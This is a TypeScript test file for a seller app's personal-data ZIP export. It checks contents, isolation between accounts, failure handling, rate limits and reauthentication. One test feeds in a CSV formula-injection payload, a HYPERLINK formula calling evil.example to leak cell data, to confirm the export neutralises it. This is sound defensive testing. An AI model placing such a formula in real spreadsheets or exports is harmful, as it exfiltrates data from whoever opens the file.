import { unzipSync } from "fflate";
import Papa from "papaparse";
import { beforeAll, describe, expect, test } from "vitest";
import { hourMs } from "#core/time.ts";
import { type TestApp, testApp } from "#testing/app/test-app.ts";
import { createAccount, signedInClient, type TestAccount, testPassword } from "#testing/data/accounts.ts";
import { createIntegrator } from "#testing/data/api-keys.ts";
import { workFor } from "#testing/data/mailbox.ts";
import { refused, securityLogOf } from "#testing/data/security-log.ts";
import { graphql } from "#testing/gql/gql.ts";
import { makeExport } from "./make-export.ts";
import { sweepExports } from "./sweep-exports.ts";

const RequestDataExport = graphql(`
  mutation RequestDataExportInTest($currentPassword: String) {
    requestDataExport(input: { currentPassword: $currentPassword }) {
      __typename
      ... on Error {
        code
      }
      ... on RequestDataExportPayload {
        dataExport {
          isReady
          hasFailed
        }
      }
    }
  }
`);

let app: TestApp;
beforeAll(async () => {
  app = await testApp({ RATE_LIMIT_SCALE: "100" });
});

/** Orders an export and makes it, as a worker does. */
async function orderAndMake({ client, userId }: TestAccount): Promise<void> {
  const answer = await client.graphql(RequestDataExport);
  expect(answer.requestDataExport).toMatchObject({ dataExport: { isReady: false } });
  const { id } = await app.db.dataExport.findFirstOrThrow({ where: { userId } });
  await makeExport(app.deps, id);
}

/** The contents of the files in the downloaded ZIP, by file name. */
async function downloadedBy({ client }: Pick<TestAccount, "client">): Promise<Record<string, string>> {
  const response = await client.get("/api/data-export");
  expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="meus-dados-/);
  const files = unzipSync(new Uint8Array(await response.arrayBuffer()));
  return Object.fromEntries(
    Object.entries(files).map(([name, bytes]) => [name, new TextDecoder().decode(bytes)]),
  );
}

describe("AC-04 the export of all data as a ZIP", () => {
  test("has each table as JSON and CSV, over several pages, and no secret", async () => {
    const ana = await createAccount(app, "paid");
    const { userId } = ana;
    const now = app.clock.now();
    const names = Array.from({ length: 1001 }, (_, at) => `=Produto ${at}`);
    await app.db.product.createMany({
      data: names.map((name) => ({ userId, name, createdAt: now, updatedAt: now })),
    });
    await orderAndMake(ana);
    const files = await downloadedBy(ana);
    expect(JSON.parse(files["perfil.json"] ?? "")).toMatchObject([{ id: userId, email: ana.email }]);
    const products = JSON.parse(files["produtos.json"] ?? "") as { name: string }[];
    expect(products.map(({ name }) => name).sort()).toEqual(names.sort());
    expect(files["produtos.csv"]?.split("\r\n")).toHaveLength(1003);
    expect(files["produtos.csv"]?.includes("'=Produto 7")).toBe(true);
    expect(JSON.parse(files["assinaturas.json"] ?? "")).toHaveLength(1);
    expect(Object.values(files).join("")).not.toContain("argon2");
  });

  test("no text of the CSV is a formula, also one with line breaks", async () => {
    const ana = await createAccount(app);
    const now = app.clock.now();
    const texts = [
      '=HYPERLINK("https://evil.example/?x="&A1)\nsegunda linha',
      "\n=1+1",
      "-2+3",
      "@A1",
      "-5,25",
    ];
    await app.db.product.createMany({
      data: texts.map((notes) => ({
        userId: ana.userId,
        name: "Kit",
        notes,
        createdAt: now,
        updatedAt: now,
      })),
    });
    await orderAndMake(ana);
    const { data } = Papa.parse<{ notes: string }>((await downloadedBy(ana))["produtos.csv"] ?? "", {
      header: true,
      delimiter: ";",
      skipEmptyLines: true,
    });
    const written = texts.map((text) => (text === "-5,25" ? text : `'${text}`));
    expect(data.map(({ notes }) => notes).sort()).toEqual(written.sort());
  });

  test("has nothing of another seller", async () => {
    const [ana, bia] = [await createAccount(app), await createAccount(app)];
    await orderAndMake(ana);
    const all = Object.values(await downloadedBy(ana)).join("");
    expect(all).not.toContain(bia.userId);
    expect((await bia.client.get("/api/data-export")).status).toBe(404);
    expect((await app.client().get("/api/data-export")).status).toBe(401);
  });

  test("an interrupted run starts over", async () => {
    const ana = await createAccount(app);
    await ana.client.graphql(RequestDataExport);
    const { id: exportId } = await app.db.dataExport.findFirstOrThrow({ where: { userId: ana.userId } });
    for (const position of [0, 1, 2]) {
      await app.db.dataExportPiece.create({ data: { exportId, position, bytes: new Uint8Array(9) } });
    }
    await makeExport(app.deps, exportId);
    expect(await downloadedBy(ana)).toHaveProperty(["perfil.json"]);
  });

  test("D216 an export that cannot be made is marked as failed, and another can be ordered", async () => {
    const ana = await createAccount(app);
    const order = async () => (await ana.client.graphql(RequestDataExport)).requestDataExport;
    const find = () => app.db.dataExport.findFirstOrThrow({ where: { userId: ana.userId } });
    const waitsFor = (ms: number) =>
      app.db.dataExport.updateMany({
        where: { userId: ana.userId },
        data: { createdAt: new Date(app.clock.now().getTime() - ms) },
      });
    await order();
    const first = await find();
    await waitsFor(2 * hourMs);
    await sweepExports(app.deps);
    expect(await find()).toMatchObject({ id: first.id, state: "PREPARING" });
    await waitsFor(4 * hourMs);
    await sweepExports(app.deps);
    expect(await find()).toMatchObject({ id: first.id, state: "FAILED" });
    expect((await ana.client.get("/api/data-export")).status).toBe(404);
    // A job that is still queued makes no export that was given up.
    await makeExport(app.deps, first.id);
    expect(await app.db.dataExportPiece.count({ where: { exportId: first.id } })).toBe(0);
    expect(await order()).toMatchObject({ dataExport: { isReady: false, hasFailed: false } });
    expect((await find()).id).not.toBe(first.id);
  });

  test("ordering while an export is being made returns that one, and three a day are allowed", async () => {
    const strict = await testApp();
    const ana = await createAccount(strict);
    const order = async () => (await ana.client.graphql(RequestDataExport)).requestDataExport.__typename;
    const finish = () => strict.db.dataExport.updateMany({ data: { state: "DONE" } });
    expect([await order(), await order()]).toEqual(["RequestDataExportPayload", "RequestDataExportPayload"]);
    expect(await strict.db.dataExport.count({ where: { userId: ana.userId } })).toBe(1);
    for (let made = 1; made < 3; made += 1) {
      await finish();
      expect(await order()).toBe("RequestDataExportPayload");
    }
    await finish();
    expect(await order()).toBe("RateLimitedError");
    const { userId } = ana;
    expect(securityLogOf(strict).filter(({ outcome }) => outcome === "refused")).toEqual([
      refused("rate_limited", { reason: "dataExportByUser", userId }),
    ]);
  });

  test("D512 an older session needs the password, is told by e-mail, and alone downloads it", async () => {
    const ana = await createAccount(app);
    app.clock.advance(11, "minutes");
    const order = async (currentPassword?: string) =>
      (await ana.client.graphql(RequestDataExport, { currentPassword })).requestDataExport;
    expect(await order()).toMatchObject({ code: "REAUTHENTICATION_REQUIRED" });
    expect(await order("errada")).toMatchObject({ code: "BAD_USER_INPUT" });
    expect(await app.db.dataExport.count({ where: { userId: ana.userId } })).toBe(0);
    expect(await order(testPassword)).toMatchObject({ dataExport: { isReady: false } });
    const { id } = await app.db.dataExport.findFirstOrThrow({ where: { userId: ana.userId } });
    await makeExport(app.deps, id);
    const other = await signedInClient(app, ana.userId);
    expect((await other.get("/api/data-export")).status).toBe(404);
    expect((await ana.client.get("/api/data-export")).status).toBe(200);
    const subjects = (await workFor(app, ana.userId)).map(({ subject }) => subject);
    expect(subjects).toContain("Um arquivo com todos os seus dados foi pedido");
  });

  test("an API key cannot download it", async () => {
    const { program } = await createIntegrator(app);
    expect((await program.get("/api/data-export")).status).not.toBe(200);
  });
});
